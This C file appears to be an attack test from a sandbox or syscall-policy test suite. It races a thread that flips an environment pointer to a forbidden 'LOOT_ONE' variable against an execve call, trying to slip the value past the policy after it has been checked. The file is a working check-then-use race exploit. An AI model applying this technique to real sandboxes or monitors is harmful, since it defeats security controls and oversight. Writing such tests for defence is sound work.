/* The pointer to a variable is changed, to one that the policy forbids, after it was judged. */
#include "attack.h"
static char *volatile all[] = {"PINNED=yes", "HARMLESS=1", 0};
static int out[2];
static void *flip(void *unused) {
    for (;;) {
        all[1] = "LOOT_ONE=1";
        all[1] = "HARMLESS=1";
    }
    return unused;
}
static void *run(void *unused) {
    char *words[] = {"printenv", "LOOT_ONE", 0};
    execve("/usr/bin/printenv", words, (char **)all);
    _exit(0);
    return unused;
}
static int try_once(void) {
    char data[64] = "";
    pid_t child = fork();
    if (!child) {
        pthread_t threads[2];
        dup2(out[1], 1);
        pthread_create(&threads[0], 0, flip, 0);
        pthread_create(&threads[1], 0, run, 0);
        for (;;) pause();
    }
    waitpid(child, 0, 0);
    return read(out[0], data, sizeof data) > 0;
}
int main(int argc, char **argv) {
    (void)argc;
    if (pipe2(out, O_NONBLOCK | O_CLOEXEC)) return 1;
    return race(argv, try_once);
}
